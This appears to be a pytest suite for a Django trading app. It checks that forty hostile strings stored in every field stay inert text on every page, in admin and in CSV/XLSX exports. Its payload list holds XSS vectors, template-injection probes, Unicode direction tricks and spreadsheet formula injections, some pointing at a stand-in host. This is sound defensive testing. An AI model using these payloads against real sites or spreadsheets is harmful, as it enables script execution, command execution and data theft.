"""Whatever a person can store comes out as text: on every page, in the whole of admin, in every export."""

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any, NamedTuple
from uuid import uuid4

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.contenttypes.models import ContentType
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from dividends.models import ActionsAnswer, Dividend, Split
from portfolios.domain.amounts import micros
from portfolios.errors import Refused
from portfolios.events import EventType
from portfolios.identity.models import Identity, Session
from portfolios.models import (
    Account,
    ApiToken,
    FailedTask,
    IdempotencyKey,
    Invitation,
    Membership,
    Portfolio,
    Position,
    SettingsPreset,
    SettingsVersion,
    User,
)
from portfolios.services.journal import Journal
from portfolios.services.members import invite
from portfolios.services.portfolios import create_portfolio
from portfolios.services.tokens import create_token
from reporting.exports.kinds import KINDS
from tests.bars import make_import
from tests.factories import NOON, make_position, make_quote, make_user
from tests.integration.access import ACTS, PAGES, PEOPLE
from tests.integration.browsing import signed_in
from tests.integration.test_access_matrix import address
from tests.recorded import make_done_run
from tests.swept import make_sweep
from trading.bars.models import BarImport, StoredPart
from trading.brokers.models import PaperEntry
from trading.domain.books import Line
from trading.domain.choices import Side
from trading.market.models import Instrument, PriceRefusal
from trading.models import InboxMessage, Reconciliation
from trading.risk.models import Halt
from trading.services.execution import execute_order
from trading.services.ordering import place_order
from trading.simulation.models import SimulationRun, Sweep

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "<script>pwn()</script>",
    "</script><script>pwn()</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<scr<script>ipt>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<img/src=x onerror=pwn()//",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<math><mi xlink:href=data:x,pwn>",
    "<iframe src=javascript:pwn()>",
    "<body onload=pwn()>",
    "<details open ontoggle=pwn()>",
    "<a href=javascript:pwn()>x</a>",
    "<form action=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<style>*{display:none}</style>",
    "<div hx-get=/ hx-trigger=load>",
    '" onmouseover="pwn()" x="',
    "' onmouseover='pwn()' x='",
    '" autofocus onfocus=pwn() x="',
    "x onmouseover=pwn() y",
    "` onmouseover=pwn() `",
    '"><script>pwn()</script>',
    "'><svg onload=pwn()>",
    "--><script>pwn()</script><!--",
    "]]><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "javascript:pwn()",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "\\u003cscript\\u003epwn()",
    "{{ 7|add:7 }}{% debug %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\u202e<b>evil\u202c",
    "\u2066null\u2069 undefined NaN \ufffd",
    '=HYPERLINK("//evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1|-2+3|\t=1",
)
UNPRINTABLE = tuple(text for text in PAYLOADS if not text.isprintable())
HARMLESS = tuple(f"word{number}" for number in range(len(PAYLOADS)))
PLACES = (
    "folio",
    "user",
    "note",
    "why",
    "actor",
    "preset",
    "mail",
    "token",
    "device",
    "sub",
    "task",
    "log",
    "halt",
    "books",
    "run",
    "refusal",
    "answer",
)
ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post", "data", "srcdoc"}
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


class Read(HTMLParser):
    """A page as a browser takes it: its elements with the names of their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bones: list[tuple[str, ...]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        names = sorted(name for name, _ in attributes)
        self.bones.append((tag, *names, *(scheme_of(value or "") for name, value in attributes if name in ADDRESSES)))
        self.text += [value for _, value in attributes if value]

    def handle_endtag(self, tag: str) -> None:
        self.bones.append((f"/{tag}",))

    def handle_comment(self, data: str) -> None:
        self.bones.append(("comment",))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def scheme_of(address: str) -> str:
    """What a browser would take for the scheme; an address that begins with a slash has none."""
    word, colon, _ = address.strip().partition(":")
    return word.lower() if colon and not word.startswith(("/", "?", "#")) else ""


class House(NamedTuple):
    owner: User
    cell: Position
    portfolios: list[Portfolio]
    secrets: list[str]
    order: Any


def stored(texts: tuple[str, ...]) -> House:
    """Every text in every place where somebody, or a provider, a browser or a broken task, can leave one.

    Where a service would refuse a text, the row is written behind its back: pages do not lean on the doors.
    """
    Instrument.objects.create(symbol="IBM", name=texts[0], exchange="XNYS", currency=texts[0][:3])
    owner = make_user("owner", first_name=texts[0], last_name=texts[1], email="a@b.example")
    portfolios = [create_portfolio(owner=owner, name=name) for name in of(texts, "folio")]
    rich = portfolios[0]
    cell = make_position(rich)
    make_quote()
    order = place_order(
        position_id=cell.pk, side=Side.BUY, quantity=micros("2"), limit=None, author=owner, actor=texts[2], key=texts[3]
    )
    execute_order(order_id=order.pk)
    order = place_order(
        position_id=cell.pk, side=Side.SELL, quantity=micros("1"), limit=None, author=owner, actor="x", key="x"
    )
    tell(cell, texts)
    market(cell, texts)
    people(rich, texts)
    things(owner, rich, cell, texts)
    secrets = [invite(portfolio_id=one.pk, email=None, role="viewer", actor="user:owner")[1] for one in portfolios[1:]]
    return House(owner, cell, portfolios, secrets, order)


def of(texts: tuple[str, ...], place: str) -> list[str]:
    """The texts, each with the name of its place behind it, to be found again."""
    return [f"{text}~{place}" for text in texts]


def tell(cell: Position, texts: tuple[str, ...]) -> None:
    """Acts with reasons and notes, done by actors of that name."""
    with transaction.atomic():
        journal = Journal(Position.objects.locked().get(pk=cell.pk), market_at=NOON, actor="")
        for why, journal.actor in zip(of(texts, "why"), of(texts, "actor"), strict=True):
            journal.add(EventType.ANCHOR_RESET, f"Anchor none to 90: {why}", anchor=90_000_000, inputs={"reason": why})
        journal.write()


def market(cell: Position, texts: tuple[str, ...]) -> None:
    """What feeds, venues and people say of prices and companies: other instruments, refused prices, announcements."""
    said = enumerate(zip(texts, of(texts, "refusal"), of(texts, "stock"), of(texts, "answer"), strict=True))
    for number, (text, refused, stock, answered) in said:
        Instrument.objects.create(symbol=f"X{number}", name=stock[:120], currency=text[:3], told_by=text[:20])
        PriceRefusal.objects.create(
            symbol=cell.symbol,
            source=cell.source,
            origin=text[:20],
            at=NOON,
            last=text[:36] + f"~{number}",
            bid=text[:40],
            ask=text[:40],
            reason=text[:20],
            sentence=refused[:240],
            received_at=timezone.now(),
        )
        day = NOON.date() + timedelta(days=number)
        ActionsAnswer.objects.create(source=cell.source, symbol=text[:12], day=day, by=answered[:160])
        told = {
            "symbol": cell.symbol,
            "source": cell.source,
            "ex_date": day - timedelta(days=60),
            "told_by": text[:160],
        }
        Dividend.objects.create(**told, pay_date=day, dps=1_000_000)
        Split.objects.create(**told | {"source": text[:20]}, numerator=2, denominator=1)
        PaperEntry.objects.create(
            account=text[:48], book=text[:40], symbol=text[:12], kind="ex", ex_date=day, shares=1, cash=1
        )


def people(portfolio: Portfolio, texts: tuple[str, ...]) -> None:
    # Addresses name people, so no door lets a slash into a name: not the forms, not admin, not a provider's claims.
    names = [name.replace("/", "|") for name in of(texts, "user")]
    users = [User(username=name, first_name=name, email="x@y.example") for name in names]
    User.objects.bulk_create(users)
    Membership.objects.bulk_create(Membership(portfolio=portfolio, user=user, role="viewer") for user in users)
    terms = {"portfolio": portfolio, "role": "viewer", "expires_at": timezone.now() + timedelta(days=1)}
    Invitation.objects.bulk_create(
        Invitation(email=mail, digest=mail, invited_by=text, **terms)
        for mail, text in zip(of(texts, "mail"), texts, strict=True)
    )


def things(owner: User, portfolio: Portfolio, cell: Position, texts: tuple[str, ...]) -> None:
    SettingsVersion.objects.bulk_create(
        SettingsVersion(portfolio=portfolio, position=whose, number=number, given={}, author=owner, note=note)
        for whose in (None, cell)
        for number, note in enumerate(of(texts, "note"), 1)
    )
    for row in (portfolio, cell):
        newest = SettingsVersion.objects.filter(portfolio=portfolio, position=None if row is portfolio else cell)
        type(row)._default_manager.filter(pk=row.pk).update(settings_version=newest.latest("number"))
    SettingsPreset.objects.bulk_create(
        SettingsPreset(owner=owner, name=f"{text[:33]}~preset", given={}) for text in texts
    )
    for name in of(texts, "run"):
        make_done_run(owner, name=name[:120], failure=name[:200])
    sweep = make_sweep(owner)
    for name in of(texts, "sweep"):
        sweep.pk, sweep.public_id, sweep.name, sweep.failure = None, uuid4(), name[:120], name[:200]
        sweep.save()
    for name in of(texts, "import"):
        make_import(name=name[:120], created_by=owner)
    bars(texts)
    tokens(owner, of(texts, "token"))
    FailedTask.objects.bulk_create(
        FailedTask(task=text, task_id=text, args=texts, kwargs={text: text}, error=error, traceback=" ".join(texts))
        for text, error in zip(texts, of(texts, "task"), strict=True)
    )
    Identity.objects.bulk_create(
        Identity(user=owner, issuer=text, subject=subject, email=text)
        for text, subject in zip(texts, of(texts, "sub"), strict=True)
    )
    IdempotencyKey.objects.bulk_create(
        IdempotencyKey(portfolio=portfolio, key=text, fingerprint=text, body=text) for text in texts
    )
    brokers(portfolio.account, texts)
    Session.objects.bulk_create(
        Session(session_key=f"{number:032}", user=owner, device=device, expire_date="2100-01-01T00:00Z")
        for number, device in enumerate(of(texts, "device"))
    )


def bars(texts: tuple[str, ...]) -> None:
    """Columns nobody read, and names of files that months came from."""
    BarImport.objects.all().update(found=make_import().found | {"warnings": [f"not read: {text}" for text in texts]})
    for month, text in enumerate(texts):
        period = f"{2000 + month // 12}-{month % 12 + 1:02}"
        part = {"file": "x.parquet", "rows": 1, "first": month, "last": month, "sha256": "0" * 64}
        StoredPart.objects.create(
            symbol="XSS", resolution="1min", period=period, source=text[:120], imported_at=NOON, **part
        )


def brokers(account: Account, texts: list[str]) -> None:
    """What people and brokers say about accounts, halts and books."""
    said = zip(texts, of(texts, "account"), of(texts, "halt"), of(texts, "books"), of(texts, "news"), strict=True)
    for number, (text, name, halted, settled, news) in enumerate(said):
        Account.objects.create(owner=account.owner, name=name[:80], code=f"x:{number}", adapter="paper")
        now = timezone.now()
        people = {"halted_by": text[:160], "halted_at": now, "rearmed_by": text[:160], "rearmed_at": now}
        scope = {"scope": "account", "account": account}
        Halt.objects.create(**scope, reason=halted[:200], rearm_reason=text[:200], **people)
        line = Line("order", text, text, settled, "differs", text, text).named
        moments = {"started_at": now, "finished_at": now, "settled_at": now, "settled_by": text[:160]}
        Reconciliation.objects.create(
            account=account, why="person", outcome="frozen", found=[line], settled_how=settled[:200], **moments
        )
        words = {"name": text[:20], "words": text[:200], "note": text[:200], "of": text[:60]}
        account.entries.create(entry_id=str(number), kind="other", day=now.date(), symbol=text[:12], amount=1, **words)
        InboxMessage.objects.create(
            account=account, channel="webhook", delivery_id=news[:150], body=text, note=text[:300], status="parked"
        )


def tokens(owner: User, names: list[str]) -> None:
    """Through the door what it lets in, behind its back what it refuses: whichever it is, a page meets it."""
    for name in names:
        if name.isprintable():
            create_token(user=owner, name=name, scopes=["read"], days=1)
        else:
            prefix = f"t{names.index(name):07}"
            terms = {"scopes": ["read"], "expires_at": timezone.now() + timedelta(days=1)}
            ApiToken.objects.create(user=owner, name=name, prefix=prefix, digest=prefix, **terms)


def pages(house: House) -> Iterator[tuple[str, str]]:
    """Every page its owner can ask for, and the doors an invited stranger sees."""
    client = signed_in(house.owner)
    token = ApiToken.objects.first()
    named = {"source": "replay", "symbol": "IBM", "resolution": "1day", "username": "owner"}
    named["prefix"] = token.prefix if token else ""
    scene = {"cell": house.cell, "portfolio": house.portfolios[0], "order": house.order, "named": named}
    scene |= {"account": house.portfolios[0].account, "run": SimulationRun.objects.earliest("pk")}
    scene |= {"sweep": Sweep.objects.latest("pk")}
    for row in (*PAGES, *ACTS, *PEOPLE):
        if row.method == "GET" and 200 in row.answers[4:5]:
            yield row.route, got(client, address(row.route, scene, row.subject))
    for number, portfolio in enumerate(house.portfolios[1:]):
        yield f"portfolio {number}", got(client, reverse("portfolio", args=[portfolio.public_id]))
    for number, secret in enumerate(house.secrets):
        stranger = Client()
        stranger.get(reverse("follow-invitation", args=[secret]))
        yield f"join {number}", got(stranger, reverse("join"))


def rooms(texts: tuple[str, ...]) -> Iterator[tuple[str, str]]:
    """The whole of admin: front, history, lists and one row of each table."""
    chief = User.objects.create_superuser("chief")
    client = signed_in(chief)
    kind = ContentType.objects.get_for_model(Portfolio)
    folio = Portfolio.objects.order_by("pk")[0]
    LogEntry.objects.bulk_create(
        LogEntry(
            user=chief, content_type=kind, object_id=folio.pk, object_repr=text, action_flag=CHANGE, change_message=m
        )
        for text, m in zip(texts, of(texts, "log"), strict=True)
    )
    yield "admin", got(client, reverse("admin:index"))
    yield "admin history", got(client, reverse("admin:portfolios_portfolio_history", args=[folio.pk]))
    for model in admin.site._registry:
        name = f"admin:{model._meta.app_label}_{model._meta.model_name}"
        yield f"{name} list", got(client, reverse(f"{name}_changelist"))
        for row in model._default_manager.order_by("pk")[:1]:
            yield name, got(client, reverse(f"{name}_change", args=[row.pk]))


def got(client: Client, url: str) -> str:
    answer = client.get(url)
    assert answer.status_code == 200, (url, answer.status_code)
    return answer.content.decode()


def seen(texts: tuple[str, ...]) -> dict[str, Read]:
    """All of it, in a house that is gone afterwards."""
    with transaction.atomic():
        house = stored(texts)
        read = {name: Read(page) for name, page in (*pages(house), *rooms(texts))}
        transaction.set_rollback(True)
    return read


def test_forty_hostile_texts_in_every_place_stay_text_on_every_page_and_in_admin() -> None:
    plain, hostile = seen(HARMLESS), seen(PAYLOADS)
    assert set(plain) == set(hostile)
    assert len(PAYLOADS) == 40
    assert {name: changed(plain[name], hostile[name]) for name in plain if changed(plain[name], hostile[name])} == {}
    everything = "\n".join(text for page in hostile.values() for text in page.text)
    wanted = {f"{text[:33] if place == 'preset' else text}~{place}" for place in PLACES for text in PAYLOADS}
    missing = {text for text in wanted if text not in everything and text.replace("/", "|") not in everything}
    assert missing == set()


def changed(plain: Read, hostile: Read) -> list[tuple[str, ...]]:
    """Elements and attributes that a harmless text does not bring."""
    if plain.bones == hostile.bones:
        return []
    return [bone for bone in hostile.bones if bone not in plain.bones] or [("order or number",)]


def test_a_name_that_turns_the_line_around_or_breaks_it_is_refused_at_every_door() -> None:
    owner = make_user("owner")
    folio = create_portfolio(owner=owner, name="Plain")
    api, given = signed_in(owner), {"scopes": ["read"], "days": 30}
    assert len(UNPRINTABLE) >= 3
    for name in UNPRINTABLE:
        with pytest.raises(Refused):
            create_token(user=owner, name=name, scopes=["read"], days=1)
        asked = {"/v1/tokens": {"name": name, **given}, "/v1/portfolios": {"name": name}}
        asked[f"/v1/portfolios/{folio.public_id}"] = {"name": name}
        for url, body in asked.items():
            method = api.patch if url.endswith(str(folio.public_id)) else api.post
            answer = method(url, body, "application/json", headers={"Idempotency-Key": name[:1].encode().hex()})
            assert answer.status_code == 422, (url, answer.content)
        assert b"No token was made" in api.post("/settings/tokens/new", {"name": name, **given}, follow=True).content
    assert not ApiToken.objects.exists()
    assert list(Portfolio.objects.values_list("name", flat=True)) == ["Plain"]


def test_no_export_runs_what_was_stored_nor_names_a_person() -> None:
    house = stored(PAYLOADS)
    client = signed_in(house.owner)
    for kind in KINDS:
        rows = list(csv.reader(io.StringIO(client.get(f"/v1/exports/{kind}.csv").getvalue().decode(), newline="")))
        book = openpyxl.load_workbook(io.BytesIO(client.get(f"/v1/exports/{kind}.xlsx").getvalue()))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert [field for row in rows for field in row if field.startswith(FORMULA) and not is_number(field)] == []
        assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
        told = "\n".join(field for row in rows for field in row) + "\n".join(str(cell.value) for cell in cells)
        assert [place for place in ("user", "mail", "device", "sub") if f"~{place}" in told] == []


def is_number(field: str) -> bool:
    return field.lstrip("-").replace(".", "", 1).isdigit()
